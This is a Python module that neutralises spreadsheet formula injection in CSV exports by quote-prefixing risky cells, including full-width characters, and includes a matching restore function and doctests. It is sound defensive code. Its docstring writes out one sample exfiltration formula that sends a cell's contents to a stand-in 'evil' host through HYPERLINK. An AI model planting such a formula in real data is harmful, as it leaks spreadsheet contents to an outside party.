"""Spreadsheet-safe CSV cells: feedback text never runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after their own trimming, with a tab or carriage return):
``=HYPERLINK("http://evil/?"&A1, "click")`` in a customer's answer would become a
live link leaking the sheet, and DDE payloads can run programs. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell
with a single quote so it stays text. We apply it to the full-width forms too
(``＝ ＋ － ＠``, U+FF1D U+FF0B U+FF0D U+FF20), which spreadsheets in CJK locales
normalise to the ASCII ones, and to a cell that starts with spaces before one.

The prefix is undone by :func:`restore` (``links import``), so an export opened,
edited and imported again round-trips exactly: a cell that itself began with a
quote gets a second one.

>>> neutralise("=HYPERLINK(1)"), neutralise("＝1+1"), neutralise("ok"), neutralise("'quoted")
("'=HYPERLINK(1)", "'＝1+1", 'ok', "''quoted")
>>> all(restore(neutralise(v)) == v for v in ["=1", " -2", "'x", "''", "plain", ""])
True
"""

from __future__ import annotations

from typing import Any

#: First characters a spreadsheet may read as the start of a formula.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_QUOTE = "'"


def neutralise(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is a string a spreadsheet could run (or that
    starts with ``'`` already, so :func:`restore` stays exact); other values as they are."""
    if not isinstance(value, str) or not value:
        return value
    first = value.lstrip(" ")[:1]
    if value[0] == _QUOTE or first in FORMULA_STARTS:
        return _QUOTE + value
    return value


def restore(value: str) -> str:
    """The cell as it was before :func:`neutralise`."""
    return value[1:] if value.startswith(_QUOTE) else value


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    return {k: neutralise(v) for k, v in row.items()}
